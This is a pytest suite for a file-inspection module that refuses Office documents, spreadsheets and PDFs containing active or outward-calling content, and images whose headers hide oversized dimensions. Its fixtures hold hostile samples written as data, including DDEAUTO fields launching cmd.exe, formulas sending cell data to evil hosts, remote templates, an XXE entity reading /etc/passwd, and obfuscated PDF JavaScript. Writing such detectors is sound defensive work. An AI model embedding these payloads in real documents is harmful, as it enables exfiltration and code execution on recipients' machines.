"""What runs or calls out is found however it is spelt; pixels are counted before they are made room for."""

import base64
import io
import struct
import zlib

import pytest
from docx import Document
from PIL import Image
from weasyprint import HTML

from linli.io.sheets import Listing, write_xlsx
from linli.kernel.errors import InputRefused
from linli.privacy import files
from linli.privacy.apart import Busy, TooHard
from linli.privacy.files import clean_file, inspect_file, look_over
from linli.privacy.headers import MOST_SCANS, WrongHeader, measured
from linli.privacy.offices import wrong_in_office
from linli.privacy.pdfs import wrong_in_pdf
from privacy.docx_files import docx
from privacy.inline import inline
from privacy.pdf_files import pdf

pytestmark = pytest.mark.any_database

# ruff: noqa: E501 - markup is written as it would be sent.
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relations(link: str, head: str = "") -> bytes:
    return f'{head}<Relationships xmlns="{RELATIONS}">{link}</Relationships>'.encode()


def document(body: str) -> bytes:
    return f'<w:document xmlns:w="{W}" xmlns:v="urn:schemas-microsoft-com:vml"><w:body><w:p>{body}</w:p></w:body></w:document>'.encode()


def field(*instructions: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    return f'{BEGIN}{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>{END}'


BEGIN = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
TEMPLATE = f'Type="{OFFICE}/attachedTemplate" Target="http://evil.example/a.dotm"'
SETTINGS = "word/_rels/settings.xml.rels"
BODY = "word/document.xml"
SHEET = "xl/worksheets/sheet1.xml"
LINK = f'<Relationship Id="rId9" Type="{OFFICE}/hyperlink" Target="http://evil.example/a" TargetMode="External"/>'

ACTIVE = {
    "template": {SETTINGS: relations(f'<Relationship Id="a" {TEMPLATE} TargetMode="External"/>')},
    "template, spaces and apostrophes": {
        SETTINGS: relations(f"<Relationship\n Id = 'a' {TEMPLATE} TargetMode\t=\n'External'/>")
    },
    "template, letters as numbers": {
        SETTINGS: relations(f'<Relationship Id="a" {TEMPLATE} TargetMode="&#69;xtern&#x61;l"/>')
    },
    "template, greater-than in an attribute": {
        SETTINGS: relations(f'<Relationship Id="a>b" {TEMPLATE} TargetMode="External"/>')
    },
    "template, with a prefix": {
        SETTINGS: f'<r:Relationships xmlns:r="{RELATIONS}"><r:Relationship Id="a" {TEMPLATE} TargetMode="External"/>'
        "</r:Relationships>".encode()
    },
    "template, in UTF-16": {
        SETTINGS: relations(f'<Relationship Id="a" {TEMPLATE} TargetMode="External"/>')
        .decode()
        .encode("utf-16")
    },
    "template, after four megabytes": {
        SETTINGS: relations(
            f'<Relationship Id="a" {TEMPLATE} TargetMode="External"/>', "<!--" + "y" * 4_200_000 + "-->"
        )
    },
    "template, without a mode": {SETTINGS: relations(f'<Relationship Id="a" {TEMPLATE}/>')},
    "template, called a hyperlink at the end": {
        SETTINGS: relations(
            f'<Relationship Id="a" Type="{OFFICE}/hyperlink/attachedTemplate" Target="a" TargetMode="External"/>'
        )
    },
    "template, as a hyperlink to a share": {
        SETTINGS: relations(
            f'<Relationship Id="a" Type="{OFFICE}/hyperlink" Target="\\\\evil\\a.dotm" TargetMode="External"/>'
        )
    },
    "relations under a name in capitals": {
        "word/_rels/settings.xml.RELS": relations(f'<Relationship Id="a" {TEMPLATE} TargetMode="External"/>')
    },
    "picture from elsewhere": {
        "word/_rels/document.xml.rels": relations(
            f'<Relationship Id="a" Type="{OFFICE}/image" Target="http://evil.example/a.png" TargetMode="External"/>'
        )
    },
    "page within": {
        "word/_rels/document.xml.rels": relations(
            f'<Relationship Id="a" Type="{OFFICE}/aFChunk" Target="a.html"/>'
        )
    },
    "object": {
        "word/_rels/document.xml.rels": relations(
            f'<Relationship Id="a" Type="{OFFICE}/oleObject" Target="a.bin"/>'
        )
    },
    "object by its content": {"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512},
    "program by its content": {"word/media/image1.emf": b"MZ" + b"\0" * 512},
    "macro under another name": {
        "word/_rels/document.xml.rels": relations(
            '<Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="a.dat"/>'
        )
    },
    "macro by its type": {
        "[Content_Types].xml": b'<Types><Override PartName="/word/a" '
        b"ContentType='application/vnd.ms-word.document.macro&#69;nabled.main+xml'/></Types>"
    },
    "DDEAUTO": {BODY: document(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))},
    "DDEAUTO, small and quoted": {BODY: document(field(' "ddeauto" cmd'))},
    "DDEAUTO, split over runs": {BODY: document(field("D", "DE", "AU", "TO cmd"))},
    "DDEAUTO, as a simple field": {BODY: document('<w:fldSimple w:instr=" DDEAUTO cmd "/>')},
    "DDEAUTO, letters as numbers": {BODY: document('<w:fldSimple w:instr="&#68;DE cmd"/>')},
    "DDEAUTO, made by another field": {
        BODY: document(
            f"{BEGIN}{field(' QUOTE 68 68 69 65 85 84 79')}<w:r><w:instrText> cmd</w:instrText></w:r>{END}"
        )
    },
    "DDEAUTO, taken out by a reviewer": {
        BODY: document(f"{BEGIN}<w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r>{END}")
    },
    "DDEAUTO, in a heading": {"word/header1.xml": document(field("DDEAUTO cmd"))},
    "DDEAUTO, without an end": {
        BODY: document(
            f"{BEGIN}<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO a</w:instrText></w:r>"
        )
    },
    "DDEAUTO, in parts of parts": {BODY: document(field("<w:a>D</w:a>DE<w:a/>AUTO cmd"))},
    "DDEAUTO, with words between": {BODY: document(field("D<w:t>x</w:t>DE cmd"))},
    "text from elsewhere": {BODY: document(field(' INCLUDETEXT "http://evil.example/a.docx"'))},
    "picture by a drawing": {BODY: document('<v:imagedata src="file://evil/a.png"/>')},
    "document type": {BODY: b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'},
    "formula that calls out": {
        "xl/worksheets/sheet1.xml": b'<c><f>WEBSERVICE("http://evil/"&amp;A1)</f></c>'
    },
    "formula of another program": {"xl/worksheets/sheet1.xml": b"<c><f>cmd|'/c calc'!A0</f></c>"},
    **{
        f"formula: {text}": {SHEET: f"<c><f>{text}</f></c>".encode()}
        for text in (
            '_xlfn.IMAGE("http://evil/?"&amp;A1)',
            "'cmd'|'/c calc'!A0",
            'cmd|"/c calc"!A0',
            "'a\"b'!A1+cmd|'/c calc'!A0+'c\"d'!A1",
            "T[[a\"b]]+cmd|'/c calc'!A0+T[[c\"d]]",
            "T[a'#]&amp;'S\"1'!A1&amp;cmd|'/c calc'!A0&amp;\"\"",
            "'\\\\evil\\s\\[x.xlsx]S'!A1",
            "'http://evil/[x.xlsx]S'!A1",
            "'c:\\[x.xlsx]S'!A1",
            'HYPERLINK("\\\\evil\\s","a")',
            'HYPERLINK("file:///c:/calc.exe","a")',
            'WEBSER<f/>VICE("http://evil")',
            'WEB<x>a</x>SERVICE("http://evil")',
            'DDE("soffice";"a";"b")',
        )
    },
    **{
        f"formula in {element}": {
            "xl/a.xml": f"<a><{element}>WEBSERVICE(A1)</{element.split()[0]}></a>".encode()
        }
        for element in (
            "formula",
            "calculatedColumnFormula",
            "totalsRowFormula",
            "oldFormula",
            "formula1",
            "definedName",
            "FmlaMacro",
        )
    },
    "formula in a form's box": {"xl/a.xml": b"<formControlPr fmlaLink=\"cmd|'/c calc'!A0\"/>"},
    "formula in a drawing": {"xl/a.xml": b'<sp textlink="IMAGE(A1)"/>'},
    "formula under a formula": {
        "xl/a.xml": b'<x14:formula1 xmlns:x14="a" xmlns:xm="b"><xm:f>RTD("a")</xm:f></x14:formula1>'
    },
    "name of a macro": {"xl/a.xml": b'<definedName xlm="1" name="a">A1</definedName>'},
    "queries of the workbook": {
        "customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA</DataMashup>'.encode(
            "utf-16"
        )
    },
    "pivot of another database": {
        "xl/a.xml": b'<pivotCacheDefinition><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'
    },
    "connection that nothing leads to": {
        "xl/connections.xml": b'<connections><connection id="1"><dbPr connection="a"/></connection></connections>'
    },
    "template, called a hyperlink": {
        SETTINGS: relations(LINK),
        "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rId9"/></w:settings>'.encode(),
    },
    "picture, called a hyperlink": {
        "word/_rels/document.xml.rels": relations(LINK),
        BODY: document(f'<a:blip xmlns:a="a" xmlns:r="{OFFICE}" r:link="rId9"/>'),
    },
    "background of a sheet, called a hyperlink": {
        "xl/worksheets/_rels/Sheet1.xml.rels": relations(LINK),
        SHEET: f'<a><picture xmlns:r="{OFFICE}" r:id="rId9"/></a>'.encode(),
    },
    "film from elsewhere": {BODY: document('<a:webVideoPr xmlns:a="a" embeddedHtml="&lt;iframe/&gt;"/>')},
    "picture in a drawing of lines": {
        "word/media/a.svg": b'<svg xmlns:x="a"><image x:href="http://evil/a.png"/></svg>'
    },
    "page by its name": {"word/a.htm": b"\0"},
    "page by its type": {
        "[Content_Types].xml": b'<Types><Default Extension="dat" ContentType="text/html"/></Types>'
    },
    "page by its content": {"word/a.dat": b"<html><body/></html>"},
    "page as a message": {"word/a.dat": b"MIME-Version: 1.0\n\n<script>"},
    "page in PostScript": {"word/media/image1.eps": b"%!PS-Adobe-3.0\nshowpage"},
    "link to another workbook": {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"},
    "queries when opened": {
        "xl/_rels/workbook.xml.rels": relations(
            f'<Relationship Id="a" Type="{OFFICE}/connections" Target="connections.xml"/>'
        )
    },
}


# Guard 9
@pytest.mark.parametrize("spelling", ACTIVE)
def test_an_office_file_that_runs_or_calls_out_is_refused(spelling: str) -> None:
    assert wrong_in_office(docx(ACTIVE[spelling])) == "active"


# Guard 9
@pytest.mark.parametrize(
    "parts",
    [
        {BODY: document(field(' HYPERLINK "http://gov.example/" \\l "a"'))},
        {BODY: document(field(" PAGE ") + field(" DATE \\@ yyyy", " \\* MERGEFORMAT"))},
        {BODY: document(f"{BEGIN}<w:r><w:instrText> IF </w:instrText></w:r>{field(' PAGE ')}{END}")},
        {BODY: document("<w:r><w:t>请勿使用 DDEAUTO 域；TargetMode=&quot;External&quot;</w:t></w:r>")},
        {SHEET: b'<c><f>IF(A1="a|b",SUM(B1:B9),CALLS)</f></c>'},
        {SHEET: b"<c><f>'it''s'!A1/B1&amp;\"a//b\"&amp;T[[#This Row],[a]]</f></c>"},
        {SHEET: '<c><f>HYPERLINK("#Sheet2!A1","看")&amp;HYPERLINK("https://gov.example/")</f></c>'.encode()},
        {SHEET: b'<c><cfRule><formula>$A$1&gt;3</formula></cfRule><formula1>"a,b"</formula1><f/></c>'},
        {"xl/a.xml": b'<a><cacheSource type="worksheet"/><sheetView showFormulas="1"/></a>'},
        {BODY: document('<m:f xmlns:m="http://x/officeDocument/2006/math"><m:t>P(A|B)</m:t></m:f>')},
        {
            "word/_rels/document.xml.rels": relations(LINK),
            BODY: document(
                f'<w:hyperlink xmlns:r="{OFFICE}" r:id="rId9"/><a:hlinkClick xmlns:a="a" xmlns:r="{OFFICE}" r:id="rId9"/>'
            ),
            "word/header1.xml": document(f'<a:blip xmlns:a="a" xmlns:r="{OFFICE}" r:embed="rId9"/>'),
        },
        {"word/media/image1.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "xl/printerSettings/a.bin": b"a\0b\0"},
        {
            "word/_rels/document.xml.rels": relations(
                f'<Relationship Id="a" Type="{OFFICE}/hyperlink" Target="mailto:a@gov.example" TargetMode="External"/>'
                f'<Relationship Id="b" Type="{OFFICE}/image" Target="media/image1.png"/>'
                f'<Relationship Id="c" Type="{OFFICE}/styles" Target="/word/styles.xml"/>'
            )
        },
    ],
)
def test_a_usual_office_file_is_kept(parts: dict[str, bytes]) -> None:
    assert wrong_in_office(docx(parts)) is None


# Guard 9
def test_a_part_that_cannot_be_looked_at_is_refused() -> None:
    assert wrong_in_office(docx({BODY: b"<w:document>"})) == "damaged"
    assert wrong_in_office(docx({SETTINGS: b"\x1f\x8bnot xml"})) == "damaged"
    assert wrong_in_office(docx({BODY: b"<?xml version='1.0' encoding='utf-7'?><a/>"})) == "damaged"


def objects(packed: bytes, filters: bytes, name: bytes = b"/ObjStm") -> bytes:
    head = b"<</Type %s /N 1 /First 4 /Filter %s /Length %d>>" % (name, filters, len(packed))
    return head + b"\nstream\n" + packed + b"\nendstream"


SCRIPT = b"9 0 <</S/JavaScript/JS(app.alert(1))>>"
PDFS = {
    "goes to another file": [b"<</S/GoToR/F(\\\\evil\\a.pdf)/D[0/Fit]>>"],
    "letters as numbers": [b"<</S/#47o#54oR/F(a.pdf)>>"],
    "sends a form": [b"<</S/SubmitForm/F(http://evil/)>>"],
    "takes data in": [b"<</S/ImportData/F(a.fdf)>>"],
    "by itself, on a page": [b"<</Type/Page/AA<</O<</S/URI/URI(http://evil/)>>>>>>"],
    "a link that opens by itself": [b"<</Type/Catalog/OpenAction<</S/URI/URI(http://evil/)>>>>"],
    "a link that opens by itself, said elsewhere": [b"<</OpenAction 3 0 R>>", b"<</S/Named/N/Print>>"],
    "a page to begin with, then a link": [
        b"<</Type/Catalog/OpenAction<</S/GoTo/D[2 0 R/Fit]/Next<</S/URI/URI(http://evil/)>>>>>>"
    ],
    "… then a link that is said elsewhere": [
        b"<</Type/Catalog/OpenAction 3 0 R>>",
        b"<</S/GoTo/D[2 0 R/Fit]/Next[4 0 R 5 0 R]>>",
        b"<</S/GoTo/D[2 0 R/Fit]>>",
        b"<</Type/Page/S/URI/URI(http://evil/)>>",
    ],
    "… then itself": [b"<</OpenAction 3 0 R>>", b"<</S/GoTo/D[2 0 R/Fit]/Next[3 0 R 3 0 R]>>"],
    "… in a list": [b"<</OpenAction[<</S/URI/URI(http://evil/)>>]>>"],
    "a page of another file": [
        b"<</Subtype/Form/Length 0/Ref<</F(http://evil/a.pdf)/Page 0>>>>\nstream\n\nendstream"
    ],
    "… said elsewhere": [b"<</Subtype/Form/Ref 3 0 R>>", b"<</F(\\\\evil\\a.pdf)/Page 0>>"],
    "a picture for the printer alone": [b"<</Subtype/Image/OPI<</2.0<</F(\\\\\\\\evil\\\\a.tif)>>>>>>"],
    "colours from an address": [b"<</Type/OutputIntent/S/GTS_PDFX/DestOutputProfileRef<</URLs[]>>>>"],
    "a file at an address": [b"<</FS/#55RL/F(http://evil/a.pdf)>>"],
    "a file by its name": [b"<</Type/Filespec/UF(\\\\\\\\evil\\\\a.pdf)>>"],
    "a link to a program": [b"<</Subtype/Link/A<</S/URI/URI(file:///c:/windows/system32/calc.exe)>>>>"],
    "a link to a folder in the network": [b"<</S/URI/URI(\\\\\\\\evil\\\\a)>>"],
    "a link in letters of two bytes": [b"<</S/URI/URI<FEFF00660069006C0065003A>>>"],
    "a link to a program, said elsewhere": [b"<</S/URI/URI 3 0 R>>", b"(javascript:alert)"],
    "links that begin at a folder": [b"<</Type/Catalog/URI<</Base(file://evil/)>>>>"],
    "a file that is attached": [b"<</Subtype/FileAttachment/FS<</F(a.exe)>>>>"],
    "a file that goes along": [b"<</AF[3 0 R]>>"],
    "a film": [b"<</S/Rendition/OP 0>>"],
    "data from elsewhere": [b"<</Length 0/F(http://evil/a)/FFilter/FlateDecode>>\nstream\n\nendstream"],
    "within lists": [b"[[[<</Next[<</S/GoToE>>]>>]]]"],
    "packed twice": [
        objects(base64.b16encode(zlib.compress(SCRIPT)) + b">", b"[/ASCIIHexDecode/FlateDecode]")
    ],
    "packed in letters": [objects(base64.a85encode(zlib.compress(SCRIPT)) + b"~>", b"[/A85/Fl]")],
    "packed under a spelt name": [objects(base64.b16encode(SCRIPT) + b">", b"/AHx", b"/#4fbjStm")],
}


# Guard 9
@pytest.mark.parametrize("spelling", PDFS)
def test_a_pdf_that_runs_or_calls_out_is_refused(spelling: str) -> None:
    wrong = wrong_in_pdf(pdf(b"<</Type/Catalog/Pages 9 0 R>>", *PDFS[spelling]))
    # What is packed in a way that the reader does not know cannot be looked at.
    assert wrong == (
        "damaged" if spelling in ("packed in letters", "packed under a spelt name") else "active"
    )


# Guard 9
def test_a_pdf_whose_key_is_spelt_otherwise_is_encrypted_all_the_same() -> None:
    assert wrong_in_pdf(pdf(b"<</Type/Catalog>>", trailer=b"/#45ncrypt<</Filter/Standard>>")) == "encrypted"


# Guard 9
def test_a_pdf_with_a_link_to_click_and_a_page_to_begin_with_is_kept() -> None:
    link = b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(http://gov.example/)>>>>"
    begin = b"<</Type/Catalog/OpenAction<</S/GoTo/D[2 0 R/Fit]>>>>"
    assert wrong_in_pdf(pdf(begin, link)) is None


# Guard 9
@pytest.mark.parametrize(
    "kept",
    [
        [b"<</Type/Catalog/OpenAction[2 0 R/Fit]>>", b"<</Type/Page/F 4>>"],
        [b"<</Type/Catalog/OpenAction<</S/GoTo/D[2 0 R/Fit]/Next[3 0 R]>>>>", b"<<>>", b"<</S/GoTo/D(a)>>"],
        [b"<</Type/Catalog/OpenAction(first)/URI<</Base(https://gov.example/)>>>>"],
        [b"<</Type/Catalog>>", b"<</S/URI/URI(mailto:a@gov.example)>>", b"<</S/URI/URI(tel:110)>>"],
        [
            b"<</Type/Catalog>>",
            b"<</S/URI/URI(HTTPS://gov.example/%E5)>>",
            b"<</S/URI/URI(www.gov.example/a)>>",
        ],
        [b"<</Type/Catalog>>", b"<</Type/StructElem/S/Reference/Ref[1 0 R]>>"],
    ],
)
def test_a_pdf_with_usual_links_and_beginnings_is_kept(kept: list[bytes]) -> None:
    assert wrong_in_pdf(pdf(*kept)) is None


# Guard 9
def test_documents_as_programs_write_them_are_kept() -> None:
    kept = io.BytesIO()
    Document().save(kept)
    assert wrong_in_office(kept.getvalue()) is None
    kept = io.BytesIO()
    write_xlsx(kept, [Listing("台账", ("编号", "网址"), [("A1", "http://gov.example/")])])
    assert wrong_in_office(kept.getvalue()) is None
    page = "<h1 id=a>通知</h1><p><a href='https://gov.example/'>网站</a> <a href='#a'>上</a></p>"
    assert wrong_in_pdf(HTML(string=page).write_pdf()) is None
    figure = io.BytesIO()
    Image.new("RGB", (20, 20)).save(figure, "PDF")
    assert wrong_in_pdf(figure.getvalue()) is None


def png_header(width: int, height: int, *chunks: bytes) -> bytes:
    head = struct.pack(">II", width, height) + b"\x08\x02\0\0\0"
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + b"".join(chunks)
        + _chunk(b"IDAT", b"")
        + _chunk(b"IEND", b"")
    )


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def riff(*chunks: bytes) -> bytes:
    body = b"WEBP" + b"".join(chunks)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def vp8x(width: int, height: int, flags: int = 0) -> bytes:
    sides = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"VP8X" + struct.pack("<I", 10) + bytes([flags, 0, 0, 0]) + sides


def vp8l(width: int, height: int) -> bytes:
    bits = (width - 1) | (height - 1) << 14
    return b"VP8L" + struct.pack("<I", 6) + b"\x2f" + struct.pack("<I", bits) + b"\0"


def jpeg_header(width: int, height: int) -> bytes:
    frame = b"\xff\xc2\x00\x11\x08" + struct.pack(">HH", height, width) + b"\x03" + b"\0" * 9
    return b"\xff\xd8\xff\xe1\x00\x04ab\xff" + frame + b"\xff\xda\x00\x02\xff\xd9"


LARGE = {
    "a.webp": riff(vp8l(7000, 7000)),
    "b.webp": riff(vp8x(7000, 7000)),
    "c.webp": riff(vp8x(10, 10), vp8l(7000, 7000)),
    "a.png": png_header(7000, 7000),
    "b.png": png_header(60_000, 2),
    "a.jpg": jpeg_header(8000, 8000),
}


# Guard 9
@pytest.mark.parametrize("name", LARGE)
def test_pixels_are_counted_before_anything_opens_the_picture(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(files, "apart", None)
    with pytest.raises(InputRefused) as refused:
        inspect_file(name, LARGE[name])
    assert [finding.code for finding in refused.value.findings] == ["files.pixels"]


# Guard 9
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.webp", riff(vp8x(10, 10, flags=2))),
        ("a.webp", riff(vp8l(10, 10), b"ANMF" + struct.pack("<I", 0))),
        ("a.webp", riff(b"JUNK\0\0\0\0" * 5000, vp8l(10, 10))),
        ("a.webp", riff()),
        ("a.png", png_header(10, 10, _chunk(b"acTL", b"\0" * 8))),
        ("a.png", png_header(10, 10, _chunk(b"tEXt", b"") * 5000)),
        ("a.png", png_header(0, 10)),
        ("a.jpg", b"\xff\xd8\xff\xe1\x00\x01" * 40),
        ("a.jpg", b"\xff\xd8\xff" + b"\xff" * 100),
    ],
)
def test_a_picture_that_moves_or_hides_its_size_is_refused_before_it_is_opened(
    name: str, content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(files, "apart", None)
    with pytest.raises(InputRefused) as refused:
        inspect_file(name, content)
    assert [finding.code for finding in refused.value.findings] == ["files.damaged"]


def progressive(more: int) -> bytes:
    """A progressive JPEG whose last pass comes ``more`` times again."""
    kept = io.BytesIO()
    Image.linear_gradient("L").convert("RGB").save(kept, "JPEG", progressive=True)
    content = kept.getvalue()
    last = content[content.rfind(b"\xff\xda") : -2]
    return content[:-2] + last * more + b"\xff\xd9"


FEW = progressive(0)
LAST = FEW[FEW.rfind(b"\xff\xda") : -2]
SCANS = FEW.count(b"\xff\xda")
TABLES = b"\xff\xfe\x00\x02" * 5000


# Guard 9
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.jpg", progressive(MOST_SCANS + 1 - SCANS)),
        ("a.jpg", progressive(20_000)),
        ("a.jpg", FEW[:-2] + TABLES + b"\xff\xd9"),
        ("a.jpg", progressive(100).replace(b"\xff\xda", b"\xff\xfe\x00\x04\xff\xd9\xff\xda")),
        ("a.jpg", FEW[:-2] + (b"\xff\x02" + LAST) * 100 + b"\xff\xd9"),
        ("a.png", png_header(10, 10, _chunk(b"IDAT", b"") * 20_000)),
    ],
)
def test_passes_and_parts_are_counted_before_a_decoder_is_started(
    name: str, content: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(files, "apart", None)
    with pytest.raises(InputRefused) as refused:
        inspect_file(name, content)
    assert [finding.code for finding in refused.value.findings] == ["files.parts"]


# Guard 9
@pytest.mark.parametrize(
    "content",
    [
        FEW,
        progressive(MOST_SCANS - SCANS),
        FEW.replace(b"\xff\xda", b"\xff\xfe\x00\x08" + b"\xff\xda" * 3 + b"\xff\xda"),
        FEW + b"a film behind it" + b"\xff\xda\x00\x02" * 200,
        FEW + FEW * 20,
    ],
)
def test_a_progressive_photograph_and_what_telephones_put_behind_one_are_looked_over(content: bytes) -> None:
    size = measured(content, "jpeg")
    assert (size.width, size.height) == (256, 256)


# Guard 9
@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
@pytest.mark.parametrize("options", [{}, {"lossless": True}, {"progressive": True}])
def test_the_size_that_is_read_is_the_size_that_a_decoder_finds(form: str, options: dict[str, bool]) -> None:
    kept = io.BytesIO()
    Image.new("RGB", (70, 30), (9, 90, 200)).save(kept, form, **options)
    size = measured(kept.getvalue(), form.lower())
    assert (size.width, size.height, size.moving) == (70, 30, False)
    for cut in range(12, 40):
        with pytest.raises(WrongHeader):
            measured(kept.getvalue()[:12] + kept.getvalue()[cut:cut], form.lower())


# Guard 9
@pytest.mark.parametrize("mode", ["RGB", "L", "P", "RGBA", "1", "I;16"])
@pytest.mark.parametrize("form", ["JPEG", "PNG", "WEBP"])
def test_a_very_large_picture_is_kept_at_half_its_sides(
    form: str, mode: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(files, "apart", inline)
    monkeypatch.setattr("linli.privacy.images.WHOLE_PIXELS", 1_000)
    monkeypatch.setattr("linli.privacy.images.MOST_LOSSLESS", 1)
    kept = io.BytesIO()
    one = Image.new(mode, (64, 48)) if form == "PNG" else Image.new("RGB", (64, 48), (9, 90, 200))
    one.save(kept, form, **({"lossless": True} if form == "WEBP" else {}))
    clean = inspect_file(f"a.{form.lower()}", kept.getvalue())
    assert Image.open(io.BytesIO(clean.content)).size == (32, 24)


# Guard 9
def test_a_file_is_opened_in_a_process_of_its_own() -> None:
    """A real one: a picture, a document and a PDF."""
    kept = io.BytesIO()
    Image.new("RGB", (7, 5)).save(kept, "PNG")
    assert Image.open(io.BytesIO(inspect_file("a.png", kept.getvalue()).content)).size == (7, 5)
    assert inspect_file("a.docx", docx()).content == docx()
    for name, content in (("a.docx", docx(ACTIVE["DDEAUTO"])), ("a.pdf", pdf(b"<</Type/Catalog/AA 3 0 R>>"))):
        with pytest.raises(InputRefused) as refused:
            inspect_file(name, content)
        assert [finding.code for finding in refused.value.findings] == ["files.active"]


# Guard 9
@pytest.mark.parametrize(("failure", "code"), [(TooHard, "hard"), (Busy, "busy")])
def test_a_process_that_fell_over_is_said(
    failure: type[Exception], code: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fails(*_: object) -> bytes:
        raise failure

    monkeypatch.setattr(files, "apart", fails)
    with pytest.raises(InputRefused) as refused:
        clean_file(look_over("a.pdf", pdf(b"<</Type/Catalog>>")))
    assert refused.value.findings[0].code == f"files.{code}"
    assert refused.value.text.zh.endswith("。")
